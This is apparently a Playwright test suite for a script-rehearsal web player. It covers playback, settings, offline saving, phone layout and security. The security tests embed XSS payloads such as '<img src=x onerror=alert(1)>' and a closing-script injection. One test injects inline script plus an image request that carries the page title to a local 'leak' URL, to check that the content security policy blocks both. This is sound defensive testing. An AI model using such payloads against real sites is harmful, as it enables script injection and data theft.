"""The rehearsal player in real headless Chromium, opened from an unzipped bundle."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import build_site, screenshot, static_server, unzip_bundle

pytestmark = [pytest.mark.browser, pytest.mark.slow]

SCRIPT = """# Player Test <img src=x onerror=alert(1)>

## Scene 1 </script><script>alert(2)</script>

(The lights come up. <b>bold?</b>)

AMY: Hello there, my friend.
BEN: Hello Amy.
AMY: How are you today?
BEN: Quite well, thank you.

## Scene 2

AMY: </script><img src=x onerror=alert(1)> is what I typed.
BEN: Goodbye for now, dear Amy.
"""

@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    return build_site(tmp_path_factory, "play.md", SCRIPT) / "build"


@pytest.fixture
def ben_bundle(site, tmp_path) -> Path:
    return unzip_bundle(site / "play/ben.zip", tmp_path)


def open_page(browser, url: str, viewport=None, player: bool = True):
    context = browser.new_context(viewport=viewport or {"width": 390, "height": 844})
    page = context.new_page()
    page.requests = []
    page.dialogs = []
    page.errors = []
    page.on("request", lambda r: page.requests.append(r.url))
    page.on("dialog", lambda d: (page.dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: page.errors.append(str(e)))
    page.goto(url)
    if not player:
        return page
    page.wait_for_function("() => window.runthruPlayer !== undefined")
    page.evaluate("""() => {
        window.__events = [];
        const a = document.getElementById('audio');
        ['playing', 'ended', 'error'].forEach(t => a.addEventListener(t, () => window.__events.push(t)));
    }""")
    return page


def state(page) -> dict:
    return page.evaluate("window.runthruPlayer.state()")


def test_bundle_plays_ai_line_stops_at_mine_and_continues_on_space(browser, ben_bundle):
    page = open_page(browser, (ben_bundle / "index.html").as_uri())  # the launcher redirects to BEN's page
    page.wait_for_url("**/play/ben/index.html")
    assert state(page)["line"] == 0 and not state(page)["mine"]
    page.click("#play")
    page.wait_for_function("() => window.__events.includes('playing')", timeout=5000)
    page.wait_for_function("() => window.__events.includes('ended')", timeout=10000)
    page.wait_for_function("() => window.runthruPlayer.state().waiting", timeout=5000)
    s = state(page)
    assert (s["line"], s["mine"], s["playing"]) == (1, True, True)
    assert page.is_visible("#cue")
    assert page.evaluate("document.getElementById('audio').paused")
    page.keyboard.press("Space")
    page.wait_for_function("() => window.runthruPlayer.state().line === 2")
    page.wait_for_function("() => window.__events.filter(e => e === 'playing').length >= 2", timeout=5000)
    assert not page.errors and not page.dialogs


def test_no_request_leaves_the_bundle(browser, ben_bundle):
    page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
    page.click("#play")
    page.wait_for_function("() => window.__events.includes('ended')", timeout=10000)
    root = ben_bundle.as_uri()
    assert page.requests and all(url.startswith(root) for url in page.requests), page.requests


INJECT = """() => new Promise(done => {
    // What a slip in escaping script text would let through: inline script, a remote image.
    const blocked = [];
    document.addEventListener('securitypolicyviolation', e => blocked.push(e.effectiveDirective));
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.head.appendChild(s);
    const img = new Image();
    img.onload = img.onerror = () => setTimeout(() => done({ran: window.__injected === true, blocked}), 50);
    img.src = 'http://127.0.0.1:9/leak.png?' + encodeURIComponent(document.title);
})"""


def test_the_content_security_policy_holds_in_a_bundle_opened_from_a_file(browser, ben_bundle):
    for rel in ("play/index.html", "play/ben/index.html"):  # the start page, a rehearsal page
        page = open_page(browser, (ben_bundle / rel).as_uri(), player=rel.endswith("ben/index.html"))
        assert page.evaluate(INJECT) == {"ran": False, "blocked": ["script-src-elem", "img-src"]}, rel
        page.context.close()


def test_bundle_holds_only_the_audio_the_role_hears(site, ben_bundle):
    names = {p.name for p in (ben_bundle / "play" / "audio").iterdir()}
    full = {p.name for p in (site / "play" / "audio").iterdir()}
    assert len(names) == 3 and names < full  # AMY's three lines, not BEN's own


def test_timed_mode_advances_by_itself(browser, ben_bundle):
    page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
    page.click("#settings-btn")
    page.select_option("#mode", "timed")
    page.click("#settings-close")
    page.click('.line[data-i="2"]')  # BEN: Hello Amy.
    assert state(page)["mine"]
    page.click("#play")
    page.wait_for_function("() => window.runthruPlayer.state().line === 2", timeout=6000)
    assert not page.is_visible("#cue")


def test_hidden_mode_hides_my_text_until_revealed(browser, ben_bundle):
    page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
    page.click("#settings-btn")
    page.select_option("#display", "hidden")
    page.keyboard.press("Escape")
    mine = page.locator(".line.mine").first
    assert "Hello Amy" not in mine.inner_text()
    assert "Hello there" in page.locator(".line").first.inner_text()  # other parts stay visible
    page.click('.line[data-i="2"]')
    page.keyboard.press("h")
    assert "Hello Amy" in page.locator('.line[data-i="2"]').inner_text()
    page.click("#settings-btn")
    page.select_option("#display", "initials")
    assert "Q____ w___, t____ y__." in page.locator('.line[data-i="4"]').inner_text()


def test_speed_changes_the_playback_rate(browser, ben_bundle):
    page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
    page.click("#settings-btn")
    page.select_option("#speed", "1.5")
    page.keyboard.press("Escape")
    page.click("#play")
    page.wait_for_function("() => window.__events.includes('playing')", timeout=5000)
    assert page.evaluate("document.getElementById('audio').playbackRate") == 1.5


def test_resume_after_reload_lands_on_the_same_line(browser, ben_bundle):
    page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
    page.click('.line[data-i="4"]')
    assert state(page)["line"] == 3
    page.reload()
    page.wait_for_function("() => window.runthruPlayer !== undefined")
    assert state(page)["line"] == 3
    assert "current" in page.locator('.line[data-i="4"]').get_attribute("class")


def test_missing_clip_shows_text_and_moves_on(browser, ben_bundle):
    for clip in (ben_bundle / "play" / "audio").iterdir():
        clip.unlink()
    page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
    page.click("#play")
    page.wait_for_function("() => window.runthruPlayer.state().waiting", timeout=8000)
    assert state(page)["line"] == 1
    assert "no-audio" in page.locator('.line[data-i="1"]').get_attribute("class")


def test_two_parts_at_once(browser, ben_bundle):
    page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri() + "?also=amy")
    assert sorted(state(page)["roles"]) == ["AMY", "BEN"]
    assert page.locator(".line.mine").count() == 6
    page.click("#play")
    page.wait_for_function("() => window.runthruPlayer.state().waiting", timeout=3000)
    assert state(page)["line"] == 0


def test_script_text_is_shown_as_text_and_runs_nothing(browser, site):
    for rel in ("play/amy/index.html", "play/index.html", "index.html", "play/listen.html"):
        page = open_page(browser, (site / rel).as_uri(), player=rel.endswith(("amy/index.html", "listen.html")))
        assert not page.dialogs and not page.errors
        assert page.locator("img[src=x]").count() == 0
        assert page.locator("script:not([src])").count() == 0  # no inline script at all
    page = open_page(browser, (site / "play" / "amy" / "index.html").as_uri())
    shown = page.locator('.line[data-i="5"]').inner_text()
    assert "</script><img src=x onerror=alert" in shown and "is what I typed." in shown  # "(1)" reads as a direction
    # markup in a heading is dropped (markdown HTML is never rendered), its text stays
    assert page.locator(".scene-title").first.text_content() == "Scene 1 alert(2)"
    page.click('.line[data-i="5"]')
    page.click("#play")
    page.wait_for_timeout(300)
    assert not page.dialogs


def test_screenshots_phone_and_desktop(browser, site):
    for name, viewport in (("phone", {"width": 390, "height": 844}), ("desktop", {"width": 1280, "height": 800})):
        page = open_page(browser, (site / "play" / "ben" / "index.html").as_uri(), viewport)
        page.click('.line[data-i="2"]')
        screenshot(page, f"role-page-{name}")
        page = open_page(browser, (site / "play" / "index.html").as_uri(), viewport, player=False)
        screenshot(page, f"role-chooser-{name}")
    page = open_page(browser, (site / "play" / "ben" / "index.html").as_uri(), {"width": 390, "height": 844})
    page.emulate_media(color_scheme="dark")
    page.click("#help-btn")
    assert page.is_visible("#help")
    assert screenshot(page, "role-page-phone-dark-help").stat().st_size > 10_000


def test_served_page_works_offline_after_saving(browser, site):
    with static_server(site) as base:
        url = f"{base}/play/ben/index.html"
        context = browser.new_context()
        page = context.new_page()
        page.goto(url)
        page.click("#settings-btn")
        assert page.is_visible("#offline-btn")
        page.click("#offline-btn")
        page.wait_for_function("() => document.getElementById('offline-status').textContent.includes('Available offline')",
                               timeout=10000)
        context.set_offline(True)
        page.reload()
        page.wait_for_function("() => window.runthruPlayer !== undefined")
        page.evaluate("() => { window.__events = []; document.getElementById('audio')"
                      ".addEventListener('playing', () => window.__events.push('playing')); }")
        page.click("#play")
        page.wait_for_function("() => window.__events.includes('playing')", timeout=5000)
        context.close()


def test_file_pages_register_no_service_worker(browser, ben_bundle):
    page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
    assert page.is_hidden("#offline-btn")
    assert page.evaluate("navigator.serviceWorker ? navigator.serviceWorker.controller === null : true")


def test_keyboard_scene_jump_and_help(browser, ben_bundle):
    page = open_page(browser, (ben_bundle / "play" / "ben" / "index.html").as_uri())
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowRight")
    assert state(page)["line"] == 2
    page.keyboard.press("ArrowLeft")
    assert state(page)["line"] == 1
    page.select_option("#scene", "1")  # Scene 2
    assert state(page)["line"] == 4 and page.inner_text("#progress") == "line 1 of 2 in this scene"
    page.keyboard.press("s")  # restart the scene: its first line
    assert state(page)["line"] == 4
    page.keyboard.press("?")
    assert page.is_visible("#help") and page.evaluate("document.activeElement.id") == "help-x"
    assert page.is_visible("#help .keys")  # a desktop: the keyboard list is shown
    page.keyboard.press("Escape")
    assert page.is_hidden("#help")


# -- on a phone ------------------------------------------------------------------------

PHONE = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True, "device_scale_factor": 3,
         "reduced_motion": "reduce"}
DESKTOP = {"viewport": {"width": 1280, "height": 800}, "reduced_motion": "reduce"}
LONG_SPEECH = " ".join(["Forgive me, friends, the road was long and the rain was cold, and every mile I"
                        " thought of what I would say to you when I arrived, and now I have forgotten it."] * 2)
PHONE_SCRIPT = f"""# The Phone Test

## Act 1
### Scene 1. A very long scene name that runs on past the arrow of the scene picker

AMY: Good morning.
CAL: Good morning to you.
AMY: Where is Ben?
CAL: Late again, as always.
AMY: He will come.
BEN: {LONG_SPEECH}
AMY: At last.
BEN: Sorry.

### Scene 2. Short

CAL: Scene two begins.
BEN: And I am in it.
AMY: Indeed.
"""


@pytest.fixture(scope="module")
def phone_site(tmp_path_factory) -> Path:
    return build_site(tmp_path_factory, "phone.md", PHONE_SCRIPT) / "build"


def open_in(browser, url: str, device: dict):
    context = browser.new_context(**device)
    page = context.new_page()
    page.errors = []
    page.on("pageerror", lambda e: page.errors.append(str(e)))
    page.goto(url)
    page.wait_for_function("() => window.runthruPlayer !== undefined")
    return page


def box(page, selector: str) -> dict:
    return page.evaluate("s => { const r = document.querySelector(s).getBoundingClientRect();"
                         " return {top: r.top, bottom: r.bottom, left: r.left, right: r.right}; }", selector)


def heads_up(page) -> tuple[str, ...]:
    """What a screen reader hears (the live region) and what the eye sees (the badge on the spoken line)."""
    return tuple(page.evaluate("""() => {
        const cue = document.querySelector('.line.current .cue');
        const badge = getComputedStyle(cue, '::after').content;
        return [document.getElementById('heads-up').textContent, badge === 'none' ? '' : badge.replace(/"/g, '')];
    }"""))


def test_phone_layout_leaves_the_script_most_of_the_screen(browser, phone_site):
    page = open_in(browser, (phone_site / "phone" / "ben" / "index.html").as_uri(), PHONE)
    head, controls = box(page, ".sticky-head"), box(page, ".controls")
    assert head["bottom"] <= 0.20 * 844, head
    assert controls["top"] - head["bottom"] >= 0.65 * 844, (head, controls)
    # the long scene name ends in an ellipsis before the dropdown arrow
    name = page.evaluate("""() => { const n = document.getElementById('scene-name');
        return {clipped: n.scrollWidth > n.clientWidth, ellipsis: getComputedStyle(n).textOverflow,
                right: n.getBoundingClientRect().right,
                pick: document.querySelector('.scene-pick').getBoundingClientRect().right}; }""")
    assert name["clipped"] and name["ellipsis"] == "ellipsis" and name["right"] <= name["pick"] - 16
    assert page.inner_text("#progress") == "line 1 of 8 in this scene"
    screenshot(page, "phone-start")
    # waiting at my long line: the cue banner sits below it, never over it
    page.tap('.line[data-i="5"]')
    page.tap("#play")
    page.wait_for_function("() => window.runthruPlayer.state().waiting")
    assert state(page)["line"] == 5
    line, banner = box(page, '.line[data-i="5"]'), box(page, "#continue")
    assert line["bottom"] <= banner["top"] and line["top"] >= head["bottom"], (line, banner)
    screenshot(page, "phone-my-long-line")
    # a tap anywhere on my current line continues, as the banner does
    page.tap('.line[data-i="5"] .cue')
    page.wait_for_function("() => window.runthruPlayer.state().line === 6")
    assert not page.errors


def test_start_before_my_next_line_and_the_heads_up(browser, phone_site):
    page = open_in(browser, (phone_site / "phone" / "ben" / "index.html").as_uri(), PHONE)
    assert heads_up(page) == ("", "")
    offer = page.inner_text("#offer-btn")  # a first visit: BEN's first line is line 6
    assert offer == "Start 2 cues before your first line (line 6 of 11)"
    page.tap("#offer-btn")
    assert state(page)["line"] == 3 and page.is_hidden("#offer")
    assert heads_up(page) == ("You're on in 2", "You're on in 2")
    screenshot(page, "phone-heads-up")
    page.keyboard.press("ArrowRight")
    assert heads_up(page) == ("You're on next", "You're on next")
    page.keyboard.press("ArrowLeft")
    page.keyboard.press("ArrowLeft")
    assert heads_up(page) == ("", "")  # three cues away: not yet
    page.keyboard.press("n")
    assert state(page)["line"] == 3  # still before the same line of mine
    page.tap("#next-mine")  # BEN's "Sorry." has one cue since his last line: start at that cue
    assert state(page)["line"] == 6
    page.keyboard.press("n")  # BEN's line in scene 2 is its second line: start at the scene's first
    assert state(page)["line"] == 8
    page.keyboard.press("n")
    assert state(page)["line"] == 8  # no later line of mine
    page.keyboard.press("p")
    page.keyboard.press("p")
    assert state(page)["line"] == 3
    page.tap("#settings-btn")
    page.select_option("#lead", "0")
    page.tap("#settings-close")
    page.tap("#prev")
    page.keyboard.press("n")
    assert state(page)["line"] == 5  # no lead: straight to my line
    page.reload()
    page.wait_for_function("() => window.runthruPlayer !== undefined")
    assert page.input_value("#lead") == "0"  # remembered
    assert not page.errors


SHEET_CONTROLS = ("#settings-close", "#mode", "#display", "#speed", "#lead", "#gap", "#also-box summary")


def test_help_on_a_phone_explains_the_taps_and_fits_the_screen(browser, phone_site):
    """Found by a newcomer: '?' listed only keyboard shortcuts, no use on a phone, and its
    Close button was cut off at the bottom."""
    page = open_in(browser, (phone_site / "phone" / "ben" / "index.html").as_uri(), PHONE)
    hint = "() => getComputedStyle(document.querySelector('#continue .key-hint')).display"
    assert page.evaluate(hint) == "none"  # "tap when done": no Space key on a phone
    page.tap("#help-btn")
    assert page.is_visible("#help") and "tap it" in page.inner_text("#help .how")
    assert page.is_hidden("#help .keys")
    sheet, close = box(page, "#help .sheet"), box(page, "#help-close")
    assert sheet["top"] >= 0 and close["bottom"] <= 844, (sheet, close)
    page.tap("#help-close")
    assert page.is_hidden("#help") and not page.errors


def test_settings_sheet_reachable_by_touch_at_any_scroll_position(browser, phone_site):
    page = open_in(browser, (phone_site / "phone" / "ben" / "index.html").as_uri(), PHONE)
    for where in ("top", "middle", "bottom"):
        page.evaluate(f"window.scrollTo(0, {{top: 0, middle: document.body.scrollHeight / 2, "
                      f"bottom: document.body.scrollHeight}}['{where}'])")
        before = page.evaluate("window.scrollY")
        page.tap("#settings-btn")
        assert page.evaluate("document.activeElement.closest('#settings') !== null")
        for selector in SHEET_CONTROLS:
            hit = page.evaluate("""s => { const el = document.querySelector(s); const r = el.getBoundingClientRect();
                const x = r.left + r.width / 2, y = r.top + r.height / 2;
                const inside = r.top >= 0 && r.left >= 0 && r.bottom <= innerHeight && r.right <= innerWidth;
                const top = document.elementFromPoint(x, y);
                return inside && (top === el || el.contains(top)); }""", selector)
            assert hit, f"{selector} not reachable with the page scrolled to the {where}"
        if where == "top":
            screenshot(page, "phone-settings")
        if where == "top":  # opening "Also playing" keeps the rest in reach: the sheet scrolls, the page not
            page.tap("#also-box summary")
            page.tap("#also input[value=AMY]")
        page.select_option("#speed", "1.25")  # a tap would open the phone's own picker
        for _ in range(12):  # focus stays inside the sheet
            page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.closest('#settings') !== null")
        assert page.evaluate("window.scrollY") == before  # the page behind did not move
        closer = {"top": lambda: page.keyboard.press("Escape"),
                  "middle": lambda: page.tap("#settings", position={"x": 195, "y": 40}),  # outside the sheet
                  "bottom": lambda: page.tap("#settings-close")}[where]
        closer()
        assert page.is_hidden("#settings")
        assert page.evaluate("window.scrollY") == before
    assert state(page)["speed"] == 1.25 and "AMY" in state(page)["roles"]
    assert not page.errors


def test_settings_in_view_on_desktop_after_a_scene_jump(browser, phone_site):
    page = open_in(browser, (phone_site / "phone" / "ben" / "index.html").as_uri(), DESKTOP)
    page.select_option("#scene", "1")
    page.click("#settings-btn")
    for selector in SHEET_CONTROLS:
        b = box(page, selector)
        assert b["top"] >= 0 and b["bottom"] <= 800, selector
    screenshot(page, "desktop-settings")


def test_back_arrow_in_an_unzipped_bundle_lands_on_a_page_that_exists(browser, site, tmp_path):
    for bundle in ("play/ben.zip", "play.zip"):
        top = unzip_bundle(site / bundle, tmp_path / bundle.replace("/", "-"))
        start = "play/ben/index.html" if bundle == "play/ben.zip" else "play/listen.html"
        page = open_page(browser, (top / start).as_uri())
        page.click("a[aria-label='Back to all parts']")
        page.wait_for_load_state()
        landed = Path(page.url.removeprefix("file://"))
        assert landed.is_file() and landed.is_relative_to(top), page.url
        page.click("text=BEN")
        page.wait_for_function("() => window.runthruPlayer !== undefined")
        assert page.url.endswith("play/ben/index.html")


def test_characters_named_like_javascript_object_keys_are_nobodys_part_but_their_own(
        browser, make_project, toy_engine, tmp_path):
    """Character names come from whoever wrote the script: "constructor" or "__proto__" must not
    count as the actor's own line on every page (the player would stop and wait there)."""
    from runthru_build.commands.build import build

    script = "Title: Keys\n\n@AMY\nFirst.\n\n@constructor\nSecond.\n\n@__proto__\nThird.\n\n@BEN\nFourth.\n"
    root = make_project({"scripts/keys.fountain": script,
                         "casts/keys.toml": 'script = "../scripts/keys.fountain"\nengine = "toy"\n'})
    assert build(root).published
    with static_server(root / "build") as base:
        for path, mine in [("listen.html", []), ("amy/index.html", ["AMY"]),
                           ("constructor/index.html", ["constructor"]), ("proto/index.html", ["__proto__"]),
                           ("amy/index.html?also=constructor,tostring", ["AMY", "constructor"])]:
            page = open_page(browser, f"{base}/keys/{path}")
            shown = page.evaluate("[...document.querySelectorAll('.line.mine .cue')].map(e => e.textContent)")
            assert shown == mine and page.evaluate("runthruPlayer.state().roles") == mine, path
            page.context.close()


SCREENPLAY = """Title: The Tragedy of Romeo and Juliet

INT. LIVING ROOM - NIGHT

Rain against the windows. A lamp burns low on the piano. MAYA, thirties, sits with a letter she has
read too many times, and does not hear the door.

THEO comes in, soaked through, and stands dripping in the doorway for a long moment before he speaks.

THEO
You kept the light on.

MAYA
I always do.

THEO
Even now?

MAYA
Especially now.
"""


def test_a_phone_opens_a_screenplay_with_its_scene_heading_and_its_whole_title_in_view(
        browser, make_project, toy_engine):
    """Found by a newcomer: the first load scrolled the scene heading under the sticky bar (only
    "- NIGHT" of "INT. LIVING ROOM - NIGHT" showed), and the phone header cut the title to
    "Romeo and Ju…"."""
    from runthru_build.commands.build import build

    root = make_project({"scripts/night.fountain": SCREENPLAY,
                         "casts/night.toml": 'script = "../scripts/night.fountain"\nengine = "toy"\n'})
    assert build(root).published
    page = open_in(browser, (root / "build" / "night" / "theo" / "index.html").as_uri(), PHONE)
    page.wait_for_timeout(300)
    head, heading = box(page, ".sticky-head"), box(page, "h2.scene-title")
    first = box(page, ".line.current")
    assert heading["top"] >= head["bottom"], (heading, head)  # the whole heading, below the bar
    assert first["bottom"] <= box(page, ".controls")["top"]  # and the first line too
    title = page.evaluate("""() => { const h = document.querySelector('.titles h1');
        return {clipped: h.scrollHeight > h.clientHeight + 1 || h.scrollWidth > h.clientWidth + 1,
                lines: Math.round(h.getBoundingClientRect().height / parseFloat(getComputedStyle(h).lineHeight))}; }""")
    assert title == {"clipped": False, "lines": 2}, title  # two lines, nothing cut
    assert head["bottom"] <= 0.20 * 844  # the header still leaves the script the screen
    screenshot(page, "phone-screenplay-first-load")
    assert not page.errors


def test_no_page_type_throws_and_listening_to_the_whole_play_has_no_drill(browser, site, tmp_path):
    """Found by a newcomer: "Listen to the whole play" showed the shuffled-cue button; its empty drill's
    buttons threw "Cannot read properties of undefined". Every page type, every button of its header."""
    bundle = unzip_bundle(site / "play/ben.zip", tmp_path / "bundle")
    pages = {"site index": site / "index.html", "role chooser": site / "play" / "index.html",
             "role": site / "play" / "ben" / "index.html", "whole play": site / "play" / "listen.html",
             "bundle": bundle / "index.html"}
    for kind, path in pages.items():
        for device in (PHONE, DESKTOP) if kind in ("role", "whole play") else (PHONE,):
            context = browser.new_context(**device)
            page = context.new_page()
            errors = []
            page.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
            page.goto(path.as_uri())
            if kind == "bundle":
                page.wait_for_url("**/play/ben/index.html")  # the bundle's launcher opens the part
            page.wait_for_load_state()
            if page.evaluate("window.runthruPlayer !== undefined"):
                if kind == "whole play":
                    assert page.is_hidden("#drill-btn")
                for button in ("#settings-btn", "#drill-btn", "#help-btn"):
                    if page.is_visible(button):
                        page.click(button)
                        for inside in ("#drill-reveal", "#drill-got", "#drill-missed", "#drill-replay"):
                            if page.is_visible(inside):
                                page.click(inside)
                        page.keyboard.press("Escape")
                page.click("#theme-btn")
                page.click("#play")
                page.wait_for_timeout(300)
                page.click("#play")
                page.keyboard.press("n")
                page.keyboard.press("ArrowRight")
            else:
                for link in page.locator("button:enabled:visible").all()[:6]:  # the voice previews
                    link.click()
                page.wait_for_timeout(200)
            assert errors == [], (kind, errors)
            context.close()
